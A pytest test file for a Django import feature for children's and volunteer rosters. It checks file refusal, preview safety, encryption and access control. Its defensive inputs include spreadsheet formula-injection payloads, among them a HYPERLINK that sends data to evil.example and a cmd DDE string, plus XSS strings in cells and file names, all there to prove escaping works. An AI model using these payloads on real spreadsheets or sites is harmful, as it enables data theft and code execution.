"""The import page: what it refuses, what it shows, what it never does; and the command's manners."""

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection
from python_calamine import CalamineWorkbook

from aixin.access.models import Role
from aixin.audit.models import Action, Entry
from aixin.exchange.choices import ImportState
from aixin.exchange.models import ImportJob
from children.choices import NoIdReason
from children.models import Child, Guardian, Need
from tests.cast import FENGCHENG, KAISHAN, WENSHUI, Cast, make_user
from tests.conftest import Session
from tests.factories import ChildFactory, VolunteerFactory
from volunteers.models import Volunteer

pytestmark = pytest.mark.django_db
HEAD = ["姓名", "性别", "身份证号", "出生日期", "乡镇", "村", "类别", "监护人姓名", "监护人电话", "备注"]
GOOD = ["童一一", "女", "", "2015-03-04", "凤城镇", "西街社区", "留守儿童", "高奶奶", "13900001111", ""]
Row = list[str]


def row(**changes: str) -> Row:
    """Return a good row with some columns changed, by their headings."""
    return [changes.get(heading, value) for heading, value in zip(HEAD, GOOD, strict=True)]


def as_csv(*rows: Row, head: Row = HEAD) -> bytes:
    text = io.StringIO(newline="")
    csv.writer(text).writerows([head, *rows])
    return text.getvalue().encode()


def post(session: Session, data: bytes, name: str = "名册.csv", kind: str = "children") -> Any:
    return session.post(f"/{kind}/import/", {"file": SimpleUploadedFile(name, data)})


def uploaded(session: Session, *rows: Row, head: Row = HEAD) -> ImportJob:
    answer = post(session, as_csv(*rows, head=head))
    assert answer.status_code == 302, answer.context["form"].errors
    return ImportJob.objects.latest("id")


def confirmed(session: Session, *rows: Row) -> ImportJob:
    job = uploaded(session, *rows)
    session.post(f"/imports/{job.pk}/confirm/")
    job.refresh_from_db()
    return job


def page_of(session: Session, job: ImportJob) -> str:
    return session.get(f"/imports/{job.pk}/").content.decode()


def broken_xlsx() -> bytes:
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer) as book:
        book.add_worksheet().write_string(0, 0, "姓名")
    whole = buffer.getvalue()
    return whole[: len(whole) // 2]


def other_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("note.txt", "nothing")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "name", "sentence"),
    [
        (b"%PDF-1.7 ...", "名册.pdf", "这是PDF 文件，不能导入"),
        (b"\x89PNG\r\n\x1a\n....", "名册.xlsx", "这是图片，不能导入"),
        (other_zip(), "名册.xlsx", "不能导入"),
        (b"", "名册.xlsx", "文件是空的"),
        (b"\r\n \r\n", "名册.csv", "文件是空的"),
        (broken_xlsx(), "名册.xlsx", "文件已损坏"),
        ("今天天气不错\n没有表头\n".encode(), "名册.csv", "表头"),
    ],
    ids=["pdf", "picture", "zip", "empty", "blank", "half", "headerless"],
)
def test_a_file_that_is_no_roster_gets_a_sentence_and_leaves_nothing(
    cast: Cast, data: bytes, name: str, sentence: str
) -> None:
    before = Child.objects.count()
    answer = post(Session(cast.wenshui), data, name)
    assert answer.status_code == 200
    assert sentence in answer.content.decode()
    assert not ImportJob.objects.exists()
    assert Child.objects.count() == before


def test_no_file_chosen_gets_a_sentence(cast: Cast) -> None:
    answer = Session(cast.wenshui).post("/children/import/", {"csrfmiddlewaretoken": "as a browser sends"})
    assert "请先选择文件" in answer.content.decode()


def test_the_preview_writes_nothing_to_the_roster(cast: Cast) -> None:
    def counts() -> list[int]:
        return [model.objects.count() for model in (Child, Guardian, Need, Volunteer)]

    before = counts()
    job = uploaded(Session(cast.wenshui), row(), row(姓名="童二二"))
    assert job.counts == {"created": 2, "updated": 0, "unchanged": 0, "rejected": 0}
    page_of(Session(cast.wenshui), job)
    assert counts() == before


def test_the_preview_shows_every_rows_fate(cast: Cast) -> None:
    session = Session(cast.wenshui)
    job = uploaded(session, row(), row(姓名="", 类别="留守"), row(姓名="童三三", 乡镇="无此镇"))
    page = page_of(session, job)
    assert "确认导入 1 行" in page
    for shown in ("童一一", "没有姓名", "乡镇（街道）找不到", "没有身份证号，已给临时编号"):
        assert shown in page


def test_uploaded_rows_lie_encrypted(cast: Cast) -> None:
    job = uploaded(Session(cast.wenshui), row())
    with connection.cursor() as cursor:
        cursor.execute("SELECT content, outcome FROM exchange_importjob WHERE id = %s", [job.pk])
        content, outcome = cursor.fetchone()
    assert "童一一" not in content + outcome
    assert "13900001111" not in content + outcome
    assert "童一一" in job.file_bytes().decode()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"看")', "=1+1", "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_as_text_stays_text_on_its_way_in_and_out(cast: Cast, formula: str) -> None:
    session = Session(cast.wenshui)
    confirmed(session, row(备注=formula), row(姓名="童二二", 类别=formula))
    child = Child.objects.get(name="童一一")
    assert child.notes == formula
    job = ImportJob.objects.latest("id")
    content = session.get(f"/imports/{job.pk}/rejected.xlsx").content
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0)
    assert formula in sheet.to_python(skip_empty_area=False)[3]
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    assert b"<hyperlink" not in xml


def test_a_formula_in_a_workbook_gives_its_stored_value_and_is_not_evaluated(cast: Cast) -> None:
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer) as book:
        sheet = book.add_worksheet()
        for column, heading in enumerate(HEAD):
            sheet.write_string(0, column, heading)
        for column, value in enumerate(row()):
            sheet.write_string(1, column, value)
        sheet.write_formula(1, HEAD.index("备注"), "=1+1", value="存下的结果")
    session = Session(cast.wenshui)
    assert post(session, buffer.getvalue(), "名册.xlsx").status_code == 302
    session.post(f"/imports/{ImportJob.objects.latest('id').pk}/confirm/")
    assert Child.objects.get(name="童一一").notes == "存下的结果"


SCRIPT = "<script>alert(1)</script>"


def test_a_script_in_a_cell_is_escaped_wherever_it_is_shown(cast: Cast) -> None:
    session = Session(cast.wenshui)
    job = uploaded(
        session, row(姓名=SCRIPT), row(姓名="童二二", 备注=SCRIPT), head=[*HEAD[:-1], f"备注{SCRIPT}"]
    )
    assert SCRIPT not in page_of(session, job)
    session.post(f"/imports/{job.pk}/confirm/")
    assert SCRIPT not in page_of(session, job)
    for child in Child.objects.filter(name__contains="script"):
        assert SCRIPT not in session.get(f"/children/{child.pk}/").content.decode()


def test_a_script_in_the_file_name_is_escaped(cast: Cast) -> None:
    session = Session(cast.wenshui)
    post(session, as_csv(row()), "<img src=x onerror=alert(1)>.csv")
    job = ImportJob.objects.latest("id")
    assert "<img src=x" not in page_of(session, job)
    assert "<img src=x" not in session.get("/imports/").content.decode()


def test_a_heading_corrected_by_the_clerk_changes_the_outcome(cast: Cast) -> None:
    session = Session(cast.wenshui)
    head = [{"类别": "甲项"}.get(heading, heading) for heading in HEAD]
    job = uploaded(session, row(), head=head)
    assert job.counts["rejected"] == 1
    assert "没有认出这些必需的列" in page_of(session, job)

    chosen = {f"column-{number}": "" for number in range(len(HEAD))}
    known = ["name", "sex", "idno", "birth", "township", "village", "category", "guardian", "phone", "notes"]
    chosen |= {f"column-{number}": key for number, key in enumerate(known)}
    session.post(f"/imports/{job.pk}/mapping/", chosen)
    job.refresh_from_db()
    assert job.counts == {"created": 1, "updated": 0, "unchanged": 0, "rejected": 0}
    session.post(f"/imports/{job.pk}/confirm/")
    assert Child.objects.get(name="童一一").category == "LEFT_BEHIND"


def test_a_column_that_the_clerk_leaves_out_is_not_imported(cast: Cast) -> None:
    session = Session(cast.wenshui)
    job = uploaded(session, row(备注="不要导入这一句"))
    known = ["name", "sex", "idno", "birth", "township", "village", "category", "guardian", "phone", ""]
    session.post(f"/imports/{job.pk}/mapping/", {f"column-{number}": key for number, key in enumerate(known)})
    session.post(f"/imports/{job.pk}/confirm/")
    assert Child.objects.get(name="童一一").notes == ""


def test_two_columns_for_one_field_are_refused(cast: Cast) -> None:
    session = Session(cast.wenshui)
    job = uploaded(session, row())
    answer = session.post(
        f"/imports/{job.pk}/mapping/", {"column-0": "name", "column-7": "name"}, follow=True
    )
    assert "同一个字段不能对应两列" in answer.content.decode()
    job.refresh_from_db()
    assert job.mapping == {}


def test_confirming_twice_doubles_nothing(cast: Cast) -> None:
    session = Session(cast.wenshui)
    job = confirmed(session, row(), row(姓名="童二二"))
    first = (Child.objects.count(), Guardian.objects.count(), job.confirmed_at, job.counts)
    session.post(f"/imports/{job.pk}/confirm/")
    job.refresh_from_db()
    assert (Child.objects.count(), Guardian.objects.count(), job.confirmed_at, job.counts) == first
    assert Entry.objects.filter(action=Action.IMPORT, object_id=job.pk).count() == 1


@pytest.mark.parametrize("who", ["xingxian", "outsider"])
@pytest.mark.parametrize(
    ("method", "page"),
    [("get", ""), ("post", "confirm/"), ("post", "mapping/"), ("post", "abandon/"), ("get", "rejected.xlsx")],
)
def test_another_countys_clerk_finds_no_such_job(cast: Cast, who: str, method: str, page: str) -> None:
    job = uploaded(Session(cast.wenshui), row())
    before = Child.objects.count()
    answer = getattr(Session(cast.users[who]), method)(f"/imports/{job.pk}/{page}")
    assert answer.status_code == 404
    job.refresh_from_db()
    assert job.state == ImportState.PREVIEW
    assert Child.objects.count() == before


def test_a_colleague_may_not_confirm_or_take_the_rejected_rows(cast: Cast) -> None:
    job = uploaded(Session(cast.wenshui), row(姓名=""))
    colleague = Session(make_user("wenshui2", Role.STAFF, WENSHUI))
    assert colleague.post(f"/imports/{job.pk}/confirm/").status_code == 403
    assert colleague.get(f"/imports/{job.pk}/rejected.xlsx").status_code == 403


def test_an_abandoned_job_stays_abandoned_and_writes_nothing(cast: Cast) -> None:
    session = Session(cast.wenshui)
    before = Child.objects.count()
    job = uploaded(session, row())
    assert "名册没有变化" in session.post(f"/imports/{job.pk}/abandon/", follow=True).content.decode()
    session.post(f"/imports/{job.pk}/confirm/")
    job.refresh_from_db()
    assert job.state == ImportState.ABANDONED
    assert Child.objects.count() == before
    assert "已放弃" in page_of(session, job)


def test_an_id_held_elsewhere_names_nobody_and_no_place(cast: Cast) -> None:
    held = cast.outsider_child
    session = Session(cast.wenshui)
    job = uploaded(session, row(身份证号=held.idno, 性别="", 出生日期=""))
    page = page_of(session, job)
    assert "这个身份证号已在其他地区的名册中" in page
    for secret in (held.name, held.no, "坞城", "小店", "太原"):
        assert secret not in page
    session.post(f"/imports/{job.pk}/confirm/")
    held.refresh_from_db()
    assert held.name == "钱外地"


def test_an_id_held_in_another_county_of_the_city_is_elsewhere_too(cast: Cast) -> None:
    job = uploaded(Session(cast.wenshui), row(身份证号=cast.far.idno, 性别="", 出生日期=""))
    assert job.rows()[0]["reasons"] == "这个身份证号已在其他地区的名册中"
    assert "周远方" not in json.dumps(job.rows(), ensure_ascii=False)


def test_a_child_without_id_gets_a_temporary_number_and_a_reason(cast: Cast) -> None:
    confirmed(Session(cast.wenshui), row())
    child = Child.objects.get(name="童一一")
    assert child.temporary_no == f"T{child.no}"
    assert child.idno_reason == NoIdReason.LOST_IN_FILE
    assert child.idno_index is None


def test_a_child_without_id_is_matched_when_imported_again(cast: Cast) -> None:
    session = Session(cast.wenshui)
    confirmed(session, row())
    assert confirmed(session, row()).counts == {"created": 0, "updated": 0, "unchanged": 1, "rejected": 0}
    job = confirmed(session, row(备注="新的一句"))
    assert job.counts["updated"] == 1
    assert Child.objects.filter(name="童一一").count() == 1


def test_a_child_without_id_may_get_its_id_later(cast: Cast) -> None:
    session = Session(cast.wenshui)
    confirmed(session, row())
    job = confirmed(session, row(身份证号="99112120150304002X", 性别=""))
    assert job.counts["updated"] == 1, job.rows()
    child = Child.objects.get(name="童一一")
    assert (child.idno, child.idno_reason, child.temporary_no) == ("99112120150304002X", "", "")


def test_same_name_and_birth_with_another_guardian_is_similar_and_created(cast: Cast) -> None:
    session = Session(cast.wenshui)
    confirmed(session, row())
    job = confirmed(session, row(监护人姓名="另一位"))
    assert job.counts["created"] == 1
    assert "同名同生日" in job.rows()[0]["warnings"]
    assert Child.objects.filter(name="童一一").count() == 2


def test_an_update_changes_only_what_the_file_states(cast: Cast) -> None:
    child = ChildFactory(
        name="童一一",
        region_id="141121100018",
        school="第一小学",
        grade="三年级",
        notes="原来的话",
        risk="LOW",
    )
    guardian = child.guardians.get()
    head = ["姓名", "身份证号", "乡镇", "类别", "年级"]
    session = Session(cast.wenshui)
    post(session, as_csv(["童一一", child.idno, "凤城镇", "困境儿童", "四年级"], head=head))
    job = ImportJob.objects.latest("id")
    assert {change["label"] for change in job.rows()[0]["changes"]} == {"类别", "年级", "就学状况"}
    session.post(f"/imports/{job.pk}/confirm/")
    stored = Child.objects.get(pk=child.pk)
    assert (stored.category, stored.grade) == ("DIFFICULT", "四年级")
    assert (stored.school, stored.notes, stored.risk, stored.no) == ("第一小学", "原来的话", "LOW", child.no)
    assert stored.region_id == "141121100018"
    assert (stored.consent, stored.idno) == (child.consent, child.idno)
    assert (stored.guardians.get().name, stored.guardians.get().phone) == (guardian.name, guardian.phone)


def test_a_township_imports_its_own_place_only(cast: Cast) -> None:
    session = Session(cast.fengcheng)
    job = uploaded(session, row(), row(姓名="童二二", 乡镇="开栅镇", 村=""))
    assert [one["reasons"] for one in job.rows()] == ["", "乡镇（街道）不在您的管辖范围"]


@pytest.mark.parametrize("who", ["city", "official", "mama", "sysadmin", "auditor", "postless"])
def test_others_may_not_import(cast: Cast, who: str) -> None:
    answer = post(Session(cast.users[who]), as_csv(row()))
    assert answer.status_code == 403
    assert not ImportJob.objects.exists()


def test_the_volunteer_of_another_county_keeps_her_row(cast: Cast) -> None:
    head = ["姓名", "身份证号", "联系电话", "乡镇"]
    data = as_csv(["冒名", cast.far_volunteer.idno, "13911112222", "凤城镇"], head=head)
    session = Session(cast.wenshui)
    post(session, data, kind="volunteers")
    job = ImportJob.objects.latest("id")
    session.post(f"/imports/{job.pk}/confirm/")
    assert job.rows()[0]["reasons"] == "这个身份证号已在其他地区的名册中"
    cast.far_volunteer.refresh_from_db()
    assert cast.far_volunteer.name == "吴远山"


def test_a_pairing_row_needs_both_people(cast: Cast) -> None:
    head = ["爱心妈妈姓名", "爱心妈妈电话", "儿童姓名", "儿童身份证号", "结对时间"]
    someone = VolunteerFactory(name="新来的", region_id=KAISHAN)
    data = as_csv(
        ["新来的", someone.phone, "张小明", cast.child.idno, "2026-01-02"],
        ["查无此人", "13812345678", "张小明", cast.child.idno, "2026-01-02"],
        ["新来的", someone.phone, "周远方", cast.far.idno, "2026-01-02"],
        head=head,
    )
    session = Session(cast.wenshui)
    post(session, data, kind="pairings")
    job = ImportJob.objects.latest("id")
    assert [one["reasons"] for one in job.rows()] == [
        "",
        "名册里找不到这位爱心妈妈，请先导入爱心妈妈名册",
        "名册里找不到这名儿童，请先导入儿童名册",
    ]
    session.post(f"/imports/{job.pk}/confirm/")
    pairing = someone.pairings.get()
    assert (pairing.child, pairing.is_main, pairing.to_verify) == (cast.child, False, True)


class TestCommand:
    def _file(self, folder: Path, data: bytes) -> str:
        path = folder / "名册.csv"
        path.write_bytes(data)
        return str(path)

    @pytest.mark.parametrize(
        "data", [b"", b"%PDF-1.4", "没有表头".encode()], ids=["empty", "pdf", "headerless"]
    )
    def test_an_unreadable_file_ends_with_2_and_one_line_on_stderr(
        self, cast: Cast, tmp_path: Path, capsys: pytest.CaptureFixture[str], data: bytes
    ) -> None:
        with pytest.raises(SystemExit) as ended:
            call_command("import_roster", "children", self._file(tmp_path, data), "--as", "wenshui", "--json")
        assert ended.value.code == 2
        said = capsys.readouterr()
        assert said.out == ""
        assert said.err.startswith("名册.csv: ")
        assert said.err.count("\n") == 1

    def test_a_missing_file_ends_with_2_and_one_line(
        self, cast: Cast, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        with pytest.raises(SystemExit) as ended:
            call_command("import_roster", "children", str(tmp_path / "无.xlsx"), "--as", "wenshui")
        assert ended.value.code == 2
        assert capsys.readouterr().err.count("\n") == 1

    def test_a_dry_run_tells_all_and_writes_nothing(self, cast: Cast, tmp_path: Path) -> None:
        before = (Child.objects.count(), Guardian.objects.count(), Entry.objects.count())
        out = io.StringIO()
        path = self._file(tmp_path, as_csv(row(), row(姓名="")))
        call_command(
            "import_roster",
            "children",
            path,
            "--as",
            "wenshui",
            "--dry-run",
            "--json",
            "--values",
            stdout=out,
        )
        report = json.loads(out.getvalue())
        assert (report["created"], report["rejected"]) == (1, 1)
        assert report["rows"][0]["row"] == 2
        assert report["rows"][0]["values"]["phone"] == "13900001111"
        assert report["rows"][1] | {"values": {}} == {
            "sheet": "", "row": 3, "status": "rejected", "reasons": ["name_missing"], "warnings": [], "values": {},
        }  # fmt: skip
        assert (Child.objects.count(), Guardian.objects.count(), Entry.objects.count()) == before

    def test_without_values_no_person_stands_in_the_report(self, cast: Cast, tmp_path: Path) -> None:
        out = io.StringIO()
        path = self._file(tmp_path, as_csv(row()))
        call_command("import_roster", "children", path, "--as", "wenshui", "--json", stdout=out)
        assert "童一一" not in out.getvalue()
        assert json.loads(out.getvalue())["rows"] == [
            {"sheet": "", "row": 2, "status": "created", "reasons": [], "warnings": ["id_missing"]}
        ]

    def test_each_row_tells_its_sheet(self, cast: Cast, tmp_path: Path) -> None:
        path, out = tmp_path / "名册.xlsx", io.StringIO()
        with xlsxwriter.Workbook(path) as book:
            for sheet in ("凤城镇", "开栅镇"):
                page = book.add_worksheet(sheet)
                page.write_row(0, 0, HEAD)
                page.write_row(1, 0, row(姓名=f"童{sheet[0]}"))
        call_command("import_roster", "children", str(path), "--as", "wenshui", "--json", stdout=out)
        assert [(line["sheet"], line["row"]) for line in json.loads(out.getvalue())["rows"]] == [
            ("凤城镇", 2), ("开栅镇", 2),
        ]  # fmt: skip

    @pytest.mark.parametrize(
        ("kind", "head"), [("visits", "走访日期,儿童姓名"), ("chairs", "村,姓名,手机号")]
    )
    def test_it_knows_every_roster(self, cast: Cast, tmp_path: Path, kind: str, head: str) -> None:
        out = io.StringIO()
        path = self._file(tmp_path, f"{head}\n".encode() + b"2026-01-02,x,y\n")
        call_command("import_roster", kind, path, "--as", "wenshui", "--dry-run", "--json", stdout=out)
        assert json.loads(out.getvalue())["created"] == 0

    @pytest.mark.parametrize("who", ["city", "mama", "official", "sysadmin", "nobody"])
    def test_only_county_staff_and_below_may_import(self, cast: Cast, tmp_path: Path, who: str) -> None:
        before = Child.objects.count()
        with pytest.raises(CommandError):
            call_command("import_roster", "children", self._file(tmp_path, as_csv(row())), "--as", who)
        assert Child.objects.count() == before


def test_places_of_the_cast_are_what_these_tests_think(cast: Cast) -> None:
    assert FENGCHENG in cast.child.region_id
    assert cast.fengcheng.acting_post.region_id == FENGCHENG
